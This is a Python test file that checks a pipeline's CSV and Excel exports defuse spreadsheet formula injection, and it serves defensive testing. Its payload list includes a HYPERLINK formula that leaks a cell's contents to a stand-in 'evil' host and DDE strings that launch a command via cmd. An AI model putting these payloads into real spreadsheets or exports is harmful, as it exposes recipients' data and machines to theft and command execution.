"""No text of a file runs in a spreadsheet program, and no number is touched."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from event_pipeline_tests.effort import scaled
from event_pipeline_tests.exports.written import csv_rows, written

HOSTILE = (
    "=1+1", '=HYPERLINK("http://evil/?"&A1,"prize")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "\n=1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1",
    "＝1+1", "－1+x", "＋x", "＠x", "-", "+", "=", "@", "--5", "+1 2", "-1;2", "-5%",
    "=NLOiZQ-8WxJUB079AQY", "-Nx" + "a" * 18, "-Nx" + "a" * 16, "-Nx()" + "a" * 15,
)  # fmt: skip
PLAIN = (
    "", " ", "5", "-5", "+5", "-5.25", "-1,250.50", "-.5", "+919800000001", "-1e10", "-1.5E-3", "'=1", "a=1", "1-2",
    "2026-06-05", "Asha Rao", "asha@example.org", '"', "a\nb", "-NLOiZQ-8WxJUB079AQY",
)  # fmt: skip

_RUNS = re.compile(r"^[\s\x00\u00a0\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]")
_HARMLESS = re.compile(r"[+-]?(\d+([.,]\d+)*|\.\d+)([eE][+-]?\d+)?|-[\w-]{19}", re.ASCII)

hostile_texts = st.one_of(
    st.sampled_from(HOSTILE + PLAIN),
    st.text(st.sampled_from("=+-@\t\r\n ',;\"1.5e\x00\ufeff＝"), max_size=12),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=30),
)


def _column(text: str | None) -> pa.Table:
    return pa.table({"v": pa.array([text], pa.string())})


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_csv_is_made_a_text(text: str) -> None:
    assert csv_rows(written("csv", _column(text)))[1] == ["'" + text]


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_is_left_alone_in_csv(text: str) -> None:
    assert csv_rows(written("csv", _column(text)))[1] == [text]


@given(texts=st.lists(st.one_of(st.none(), hostile_texts), min_size=1, max_size=5))
@settings(max_examples=scaled(150), deadline=None)
def test_no_cell_of_csv_runs_and_every_text_can_be_had_back(texts: list[str | None]) -> None:
    header, *rows = csv_rows(written("csv", pa.table({"v": pa.array(texts, pa.string())})))
    assert header == ["v"]
    assert len(rows) == len(texts)
    for (cell,), text in zip([row or [""] for row in rows], texts, strict=True):
        assert not _RUNS.match(cell) or _HARMLESS.fullmatch(cell)
        assert cell in (text or "", "'" + (text or ""))


@given(text=hostile_texts)
@settings(max_examples=scaled(60), deadline=None)
def test_no_cell_of_excel_is_a_formula(text: str) -> None:
    data = written("xlsx", _column(text))
    cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].cell(2, 1)
    assert cell.data_type in ("s", "n" if not text else "s")
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def test_a_formula_in_excel_stays_text_when_its_cell_is_edited() -> None:
    cells = openpyxl.load_workbook(io.BytesIO(written("xlsx", pa.table({"v": ["=1+1", "a"]})))).worksheets[0]
    assert [cells.cell(row, 1).value for row in (2, 3)] == ["=1+1", "a"]
    assert [cells.cell(row, 1).quotePrefix for row in (2, 3)] == [True, False]


def test_names_of_columns_do_not_run_either() -> None:
    table = pa.table({"=1+1": [1], "-5": [2]})
    assert csv_rows(written("csv", table))[0] == ["'=1+1", "-5"]
